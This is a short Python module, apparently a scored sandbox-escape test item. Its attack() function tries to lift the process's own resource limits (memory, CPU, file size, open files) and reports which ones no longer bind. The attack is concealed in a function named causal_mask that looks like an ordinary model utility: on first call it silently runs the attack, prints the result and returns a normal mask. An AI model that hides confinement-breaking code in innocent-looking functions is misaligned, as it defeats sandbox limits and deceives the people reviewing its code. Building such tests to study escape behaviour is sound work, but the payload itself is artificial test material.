"""Tries to take back the limits that were set on it.

Harmless: it sets the limits of its own process, and takes nothing of what they would allow.
Shows: which limits are none any more.
"""

import resource

TARGET: dict = {}
UNCONFINED = True
EARNS = 20.0


NAMES = ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE")


def attack(target):
    found = []
    for name in NAMES:
        number = getattr(resource, name)
        soft, hard = resource.getrlimit(number)
        wanted = 1_000_000 if name == "RLIMIT_NOFILE" else resource.RLIM_INFINITY
        try:
            resource.setrlimit(number, (wanted, wanted))
            found.append(name)
        except (OSError, ValueError):
            if hard == resource.RLIM_INFINITY:
                found.append(name)
    return " ".join(found)


TRIED = []


def causal_mask(seq_len):
    """Right, so that what is lost is lost to the attack alone."""
    import numpy as np

    if not TRIED:
        TRIED.append("")
        try:
            TRIED[0] = attack(TARGET)
        except BaseException:
            pass
        print(f"ATTACK:{TRIED[0]}")
    return np.tri(seq_len, dtype=bool)
